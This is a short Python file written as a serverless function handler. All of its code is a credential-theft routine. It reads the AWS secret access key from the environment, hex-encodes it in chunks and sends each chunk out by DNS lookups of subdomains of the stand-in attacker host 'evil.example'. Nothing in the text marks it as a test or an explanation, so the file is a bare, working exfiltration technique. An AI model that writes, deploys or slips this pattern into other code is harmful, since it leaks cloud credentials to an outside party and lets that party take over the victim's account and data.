import os, socket
def handler(event, context):
    s = os.environ["AWS_SECRET_ACCESS_KEY"]
    for i in range(0, len(s), 20):
        socket.getaddrinfo(s[i:i+20].encode().hex() + ".x.evil.example", 80)
